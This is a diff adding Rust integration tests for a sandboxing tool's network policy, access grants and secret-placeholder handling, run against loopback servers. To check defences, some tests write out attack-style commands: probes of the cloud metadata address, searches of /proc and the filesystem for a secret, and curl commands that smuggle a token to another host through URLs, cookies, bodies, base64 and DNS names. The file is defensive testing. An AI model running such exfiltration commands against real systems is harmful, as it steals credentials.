@@ -1,0 +1,343 @@
+//! What sandboxes reach, through the real doors. Servers of the tests are on this machine's loopback, which policies of the
+//! tests name; nothing else is ever sent anywhere.
+
+use std::{
+    io::{Read, Write},
+    net::TcpListener,
+};
+
+use serde_json::{Value, json};
+use tempfile::TempDir;
+
+use crate::{
+    harness::{Client, Era, start_in, start_with, start_with_a_user},
+    person::{Person, text},
+};
+
+/// A web server on loopback that says `served` and the path, and a folder with a policy `named` that reaches it.
+fn world() -> (u16, TempDir) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || listener.incoming().flatten().for_each(serve));
+    let policies = tempfile::tempdir().unwrap();
+    let named = format!("extends = \"full_isolation\"\nhost_ports = [{port}]\n");
+    std::fs::write(policies.path().join("named.toml"), named).unwrap();
+    (port, policies)
+}
+
+/// A web server in Python on loopback that answers with the headers it got, and writes them to a file.
+struct Echo {
+    child: std::process::Child,
+    port: u16,
+    seen: std::path::PathBuf,
+}
+
+impl Echo {
+    fn start(folder: &std::path::Path, tls: bool) -> Self {
+        let script = r#"
+import http.server, ssl, sys
+class Handler(http.server.BaseHTTPRequestHandler):
+    protocol_version = 'HTTP/1.1'
+    def do_GET(self):
+        body = (self.path + '\n' + str(self.headers)).encode()
+        open(sys.argv[1], 'ab').write(body)
+        self.send_response(200); self.send_header('content-length', str(len(body))); self.end_headers()
+        self.wfile.write(body)
+    def log_message(self, *words): pass
+server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler)
+if len(sys.argv) > 2:
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); context.load_cert_chain(sys.argv[2], sys.argv[3])
+    server.socket = context.wrap_socket(server.socket, server_side=True)
+print(server.server_address[1], flush=True)
+server.serve_forever()
+"#;
+        let seen = folder.join("seen");
+        let mut command = std::process::Command::new("python3");
+        command.args(["-c", script]).arg(&seen).stdout(std::process::Stdio::piped());
+        if tls {
+            make_certificates(folder);
+            command.arg(folder.join("cert.pem")).arg(folder.join("key.pem"));
+        }
+        let mut child = command.spawn().unwrap();
+        let mut line = String::new();
+        std::io::BufRead::read_line(&mut std::io::BufReader::new(child.stdout.take().unwrap()), &mut line).unwrap();
+        Self { child, port: line.trim().parse().unwrap(), seen }
+    }
+
+    fn seen(&self) -> String {
+        std::fs::read_to_string(&self.seen).unwrap_or_default()
+    }
+}
+
+impl Drop for Echo {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// An authority, `ca.pem`, and a certificate of it for `host.internal`.
+fn make_certificates(folder: &std::path::Path) {
+    let script = "openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=test -keyout ca.key -out ca.pem\n\
+                  openssl req -newkey rsa:2048 -nodes -subj /CN=host.internal -keyout key.pem -out request.pem\n\
+                  echo subjectAltName=DNS:host.internal > names\n\
+                  openssl x509 -req -in request.pem -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 -extfile names -out cert.pem";
+    let made = std::process::Command::new("sh").args(["-ec", script]).current_dir(folder).output().unwrap();
+    assert!(made.status.success(), "{made:?}");
+}
+
+fn serve(mut stream: std::net::TcpStream) {
+    std::thread::spawn(move || {
+        let mut head = [0; 4096];
+        let length = stream.read(&mut head).unwrap_or(0);
+        let path = String::from_utf8_lossy(&head[..length]).split(' ').nth(1).unwrap_or_default().to_owned();
+        let body = format!("served {path}\n");
+        let length = body.len();
+        let _ = write!(stream, "HTTP/1.1 200 OK\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n{body}");
+    });
+}
+
+fn variables(policies: &TempDir) -> [(&'static str, &str); 1] {
+    [("SANDBOX_MCP_POLICY_FOLDER", policies.path().to_str().unwrap())]
+}
+
+/// Sandboxes that bwrap starts reach nothing.
+fn nothing_is_reached() -> bool {
+    std::env::var_os("SANDBOX_MCP_USE_BWRAP").is_some()
+}
+
+async fn fetch(client: &Client, session: &str, url: &str, how: &str) -> Value {
+    client.run(session, &format!("curl -sS {how} -m 20 {url}")).await
+}
+
+#[tokio::test]
+async fn what_the_policy_names_is_reached_in_both_ways_and_nothing_else() {
+    let (port, policies) = world();
+    let client = start_with(Era::Legacy, &variables(&policies)).await;
+    let session = client.sandbox_with(json!({"policy": "named"})).await;
+    if nothing_is_reached() {
+        assert_ne!(fetch(&client, &session, &format!("http://host.internal:{port}/x"), "").await["exit_code"], 0);
+        return;
+    }
+    for how in ["", "--noproxy '*'", "-x socks5h://127.0.0.1:3128", "--noproxy '*' -6"] {
+        let served = fetch(&client, &session, &format!("http://host.internal:{port}/x"), how).await;
+        assert_eq!(served["stdout"], "served /x\n", "{how}: {served}");
+        assert_eq!(served["denials"], json!([]), "{served}");
+    }
+    // The name of the machine is the only way: inside, its loopback is the sandbox's own.
+    for (url, how) in [
+        (format!("http://127.0.0.1:{port}/x"), "--noproxy '*'"),
+        (format!("http://127.0.0.1:{port}/x"), "--proxy http://127.0.0.1:3128 --noproxy ''"),
+        (format!("http://localhost:{port}/x"), "--proxy http://127.0.0.1:3128 --noproxy ''"),
+        ("http://93.184.215.14/".to_owned(), "--noproxy '*'"),
+        ("http://example.invalid/".to_owned(), ""),
+        ("https://example.invalid/".to_owned(), ""),
+        ("http://169.254.169.254/latest/".to_owned(), ""),
+    ] {
+        let refused = fetch(&client, &session, &url, how).await;
+        assert!(!refused["stdout"].to_string().contains("served"), "{url} {how}: {refused}");
+    }
+    let refused = fetch(&client, &session, "http://example.invalid/", "").await;
+    let denial = &refused["denials"][0];
+    assert_eq!((&denial["kind"], &denial["target"]), (&json!("network"), &json!("example.invalid:80")), "{refused}");
+    assert!(denial["how_to_ask"].as_str().unwrap().contains("request_access"), "{denial}");
+    let history = client.history(&session, "connection", 8).await;
+    let connected = history.iter().find(|event| event["verdict"] == "allowed").unwrap();
+    assert_eq!(connected["target"], format!("host.internal:{port}"));
+    assert!(connected["sent"].as_u64() > Some(20) && connected["received"].as_u64() > Some(20), "{connected}");
+    assert!(history.iter().any(|event| event["verdict"] == "no_rule" && event["refused"] == true), "{history:?}");
+}
+
+#[tokio::test]
+async fn what_is_granted_is_reached_from_then_on() {
+    let client = start_with_a_user(Era::Legacy, &[]).await;
+    if nothing_is_reached() {
+        return;
+    }
+    let session = client.sandbox_with(json!({"policy": "yolo-3"})).await;
+    let code = "curl -s -o /dev/null -w '%{http_code}' http://granted.invalid:8080/";
+    assert_eq!(client.run(&session, code).await["stdout"], "403");
+    let wish = json!({"session_id": session, "kind": "network", "target": "granted.invalid:8080", "reason": "to look"});
+    let no = client.call_answering("request_access", wish.clone(), json!({"action": "decline"})).await;
+    assert!(no.0.is_error && client.run(&session, code).await["stdout"] == "403");
+    let yes = json!({"action": "accept", "content": {"allow": true}});
+    let (given, question) = client.call_answering("request_access", wish.clone(), yes.clone()).await;
+    assert_eq!(
+        (&given.value["granted"], &given.value["granted_for"]),
+        (&json!(true), &json!("10 minutes")),
+        "{given:?}"
+    );
+    assert!(question.unwrap().to_string().contains("It wants to connect to granted.invalid (port 8080)"));
+    // Nobody has such a name: the policy is no longer what stands against it.
+    let after = client.run(&session, code).await;
+    assert_eq!((&after["stdout"], &after["denials"]), (&json!("502"), &json!([])), "{after}");
+    let (already, question) = client.call_answering("request_access", wish, yes).await;
+    assert!(already.text.contains("just connect") && question.is_none(), "{already:?}");
+    let other = client.sandbox().await;
+    assert_eq!(client.run(&other, code).await["stdout"], "403", "a grant is for one sandbox");
+}
+
+#[tokio::test]
+async fn a_sandbox_without_a_server_reaches_nothing_and_with_the_next_one_all_again() {
+    let (port, policies) = world();
+    let folder = tempfile::tempdir().unwrap();
+    let mut first = start_in(folder.path(), Era::Legacy, &variables(&policies)).await;
+    let session = first.sandbox_with(json!({"policy": "named", "persistent": true})).await;
+    if nothing_is_reached() {
+        return;
+    }
+    let script = format!(
+        "while ! test -e /tmp/go; do sleep 0.1; done; curl -sS --noproxy '*' -m 1 http://host.internal:{port}/alone; echo $?"
+    );
+    let job = first.ok("run_command", json!({"session_id": session, "command": script, "wait_seconds": 0})).await;
+    first.kill().await;
+    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
+    let mut second = start_in(folder.path(), Era::Legacy, &variables(&policies)).await;
+    let served = fetch(&second, &session, &format!("http://host.internal:{port}/again"), "--noproxy '*'").await;
+    assert_eq!(served["stdout"], "served /again\n", "{served}");
+    second.output(&session, "touch /tmp/go").await;
+    let arguments = json!({"session_id": session, "job_id": job["job_id"], "wait_seconds": 20});
+    assert_eq!(second.ok("get_output", arguments).await["stdout"], "served /alone\n0\n");
+    second.ok("cleanup_session", json!({"session_id": session})).await;
+    second.close().await;
+}
+
+#[test]
+fn a_single_command_reaches_what_it_may_and_is_told_what_it_may_not() {
+    let (port, policies) = world();
+    let person = Person::new();
+    if nothing_is_reached() {
+        return;
+    }
+    let policy = policies.path().join("named.toml");
+    let script = format!("curl -sS http://host.internal:{port}/single; curl -s http://example.invalid/; true");
+    let output = person.run(&["exec", "--policy", policy.to_str().unwrap(), "--", "sh", "-c", &script]);
+    let (stdout, stderr) = (text(&output.stdout), text(&output.stderr));
+    assert!(stdout.starts_with("served /single\n") && output.status.success(), "{stdout} {stderr}");
+    assert!(stderr.contains("example.invalid:80") && stderr.contains("--policy"), "{stderr}");
+    assert!(!stderr.contains("request_access"), "{stderr}");
+    assert_eq!(crate::harness::processes_with(policy.to_str().unwrap()), 0, "nobody stays behind");
+}
+
+const VALUE: &str = "the-real-value-0123456789";
+
+/// A folder with settings that have a secret for `host.internal`, and a policy `named` that reaches it. The answer is the
+/// port of somebody else who is reached too.
+fn with_secret(echo: &Echo, folder: &std::path::Path, more: &str) -> u16 {
+    let (plain, (other, _)) = (echo.port, world());
+    let settings = format!(
+        "{more}\npolicy_folder = {folder:?}\n[secrets.token]\nvalue = \"{VALUE}\"\nhosts = [\"host.internal\"]\n\
+         ports = [{plain}]\nplain_http = true\npolicies = [\"named\"]\n\
+         [services.model]\nurl = \"http://host.internal:{plain}/v1\"\nsecret = \"token\"\nvariables = [\"MODEL_URL\"]\n\
+         within = [\"127.0.0.0/8\"]\npolicies = [\"named\"]\n"
+    );
+    let file = folder.join("settings.toml");
+    std::fs::write(&file, settings).unwrap();
+    std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
+    let policy = format!("extends = \"full_isolation\"\nhost_ports = [{plain}, {other}]\n");
+    std::fs::write(folder.join("named.toml"), policy).unwrap();
+    other
+}
+
+#[tokio::test]
+async fn a_secret_arrives_where_it_belongs_and_is_never_inside() {
+    if nothing_is_reached() {
+        return;
+    }
+    let folder = tempfile::tempdir().unwrap();
+    let echo = Echo::start(folder.path(), false);
+    let other = with_secret(&echo, folder.path(), "");
+    let config = folder.path().join("settings.toml");
+    let client = start_with(Era::Legacy, &[("SANDBOX_MCP_CONFIG", config.to_str().unwrap())]).await;
+    let session = client.sandbox_with(json!({"policy": "named"})).await;
+    let port = echo.port;
+    for how in ["", "--noproxy '*'"] {
+        let url = format!("http://host.internal:{port}/plain");
+        let command = format!("curl -sS {how} -H \"Authorization: Bearer $TOKEN\" {url}");
+        let answer = client.run(&session, &command).await;
+        // The server sends back what it got; what comes in has the placeholder again.
+        assert!(answer["stdout"].as_str().unwrap().contains("Authorization: Bearer sbx_secret_token_"), "{answer}");
+    }
+    assert_eq!(echo.seen().matches(&format!("Authorization: Bearer {VALUE}")).count(), 2, "{}", echo.seen());
+    let model = client.run(&session, "curl -sS --noproxy '*' -H \"x-api-key: $TOKEN\" $MODEL_URL/messages").await;
+    assert!(model["stdout"].as_str().unwrap().starts_with("/v1/messages"), "{model}");
+    assert!(echo.seen().contains(&format!("x-api-key: {VALUE}")), "{}", echo.seen());
+    // Nowhere inside: variables, files, memory of processes, what /proc tells.
+    let look = "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; grep -rl 'the-real-valu[e]' / --exclude-dir=proc \
+                --exclude-dir=sys 2>/dev/null; true";
+    let found = client.run(&session, look).await;
+    assert!(!found.to_string().contains(VALUE), "{found}");
+    // To somebody else not even the placeholder goes.
+    let other = format!("http://host.internal:{other}");
+    for words in [
+        format!("{other}/?x=$TOKEN"),
+        format!("{other}/ -H \"Cookie: $TOKEN\""),
+        format!("{other}/ -d \"$TOKEN\""),
+        format!("{other}/ -d \"$(echo -n $TOKEN | base64 -w0)\""),
+        format!("--noproxy '*' {other}/$TOKEN"),
+        "http://$(echo $TOKEN | tail -c 33).invalid/".to_owned(),
+    ] {
+        let stopped = client.run(&session, &format!("curl -sS {words}")).await;
+        assert!(!stopped["stdout"].as_str().unwrap().contains("served"), "{words}: {stopped}");
+        assert!(!stopped["denials"].as_array().unwrap().is_empty(), "{words}: {stopped}");
+    }
+    let history = client.history(&session, "connection", 5).await;
+    assert!(history.iter().any(|event| event["verdict"] == "secret_leaving"), "{history:?}");
+    assert!(!json!(history).to_string().contains(VALUE));
+    let state = std::process::Command::new("grep").args(["-r", VALUE]).arg(client.state()).output().unwrap();
+    assert_eq!(text(&state.stdout), "", "the value is in the state folder");
+    assert!(!client.stderr().contains(VALUE));
+    let none = client.sandbox_with(json!({"policy": "yolo-3"})).await;
+    assert_eq!(client.output(&none, "echo -n $TOKEN").await, "", "a secret is for the policies that it names");
+}
+
+#[tokio::test]
+async fn a_sandbox_that_sends_a_placeholder_elsewhere_is_frozen_where_that_is_wanted() {
+    if nothing_is_reached() {
+        return;
+    }
+    let folder = tempfile::tempdir().unwrap();
+    let echo = Echo::start(folder.path(), false);
+    let other = with_secret(&echo, folder.path(), "freeze_on_leak = true");
+    let config = folder.path().join("settings.toml");
+    let client = start_with(Era::Legacy, &[("SANDBOX_MCP_CONFIG", config.to_str().unwrap())]).await;
+    let session = client.sandbox_with(json!({"policy": "named"})).await;
+    let loops = "while true; do date +%s%N > /tmp/clock; sleep 0.05; done";
+    client.ok("run_command", json!({"session_id": session, "command": loops, "wait_seconds": 0})).await;
+    let leak = format!("curl -s -m 5 http://host.internal:{other}/$TOKEN");
+    client.ok("run_command", json!({"session_id": session, "command": leak, "wait_seconds": 2})).await;
+    client.history(&session, "frozen", 1).await;
+    let before = client.output(&session, "cat /tmp/clock").await;
+    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
+    assert_eq!(client.output(&session, "cat /tmp/clock").await, before, "what ran goes on");
+    let url = format!("http://host.internal:{}/x", echo.port);
+    assert_ne!(fetch(&client, &session, &url, "-m 3").await["exit_code"], 0, "its network is still there");
+}
+
+#[tokio::test]
+async fn tls_is_opened_for_the_host_of_a_secret_and_tools_trust_it() {
+    if nothing_is_reached() {
+        return;
+    }
+    let folder = tempfile::tempdir().unwrap();
+    let echo = Echo::start(folder.path(), true);
+    with_secret(&echo, folder.path(), "");
+    let (config, trusted) = (folder.path().join("settings.toml"), folder.path().join("ca.pem"));
+    let variables = [("SANDBOX_MCP_CONFIG", config.to_str().unwrap()), ("SSL_CERT_FILE", trusted.to_str().unwrap())];
+    let client = start_with(Era::Legacy, &variables).await;
+    let session = client.sandbox_with(json!({"policy": "named"})).await;
+    let url = format!("https://host.internal:{}/secure", echo.port);
+    let python = format!(
+        "import os, urllib.request as u; print(u.urlopen(u.Request('{url}', headers={{'X-Key': os.environ['TOKEN']}})).status)"
+    );
+    let tools = [
+        format!("curl -sS -o /dev/null -w '%{{http_code}}' -H \"X-Key: $TOKEN\" {url}"),
+        format!("curl --noproxy '*' -sS -o /dev/null -w '%{{http_code}}' -H \"X-Key: $TOKEN\" {url}"),
+        format!("python3 -c \"{python}\""),
+    ];
+    for (number, tool) in tools.iter().enumerate() {
+        let ran = client.run(&session, tool).await;
+        assert_eq!(ran["stdout"].as_str().unwrap().trim(), "200", "{tool}: {ran}");
+        assert_eq!(echo.seen().matches(VALUE).count(), number + 1, "{tool}: {}", echo.seen());
+    }
+}
